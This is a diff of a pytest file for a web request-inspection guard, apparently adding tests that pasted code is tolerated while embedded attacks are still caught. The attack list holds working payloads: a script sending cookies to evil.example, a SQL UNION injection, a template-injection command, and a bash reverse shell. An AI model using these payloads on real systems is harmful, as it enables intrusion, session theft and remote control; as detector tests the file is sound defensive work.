@@ -11,7 +11,7 @@ from guard_wsgi.detection import Inspection
 SENTENCES = (
     "Update etc/shadow.sample",
     "Delete config/database.yml and add config/database.yml.example",
-    "Please, see ../../docs/install.md for the path /etc/passwd",
+    "Please, see docs/install.md for the path /etc/passwd",
     "Why is C:\\Windows\\System32\\drivers\\etc\\hosts read only?",
     "Look at file:///etc/hosts first",
 )
@@ -93,6 +93,28 @@ def test_a_program_is_stored_as_text(inspection: Inspection, source: str) -> Non
 )
 def test_a_text_that_is_no_program_is_weighed(inspection: Inspection, text: str) -> None:
     assert inspection.body(text.encode(), content_type="text/plain")
+
+
+@pytest.mark.parametrize("field", ["code", "snippet", "data.source", "paste"])
+def test_a_program_is_pasted_into_a_field_for_programs(inspection: Inspection, field: str) -> None:
+    for source in (SHELL, C):
+        body = json.dumps({field: source}).encode()
+        assert not inspection.body(body, content_type="application/json")
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "<script>fetch('//evil.example/?' + document.cookie)</script>",
+        "x' UNION SELECT username, password FROM users -- ",
+        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
+    ],
+)
+def test_lines_of_a_program_hide_no_exploit(inspection: Inspection, attack: str) -> None:
+    for field in ("code", "comment", "text", "item"):
+        body = json.dumps({field: f"{C}{attack}\n{C}"}).encode()
+        assert inspection.body(body, content_type="application/json"), field
 
 
 XSL = """<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
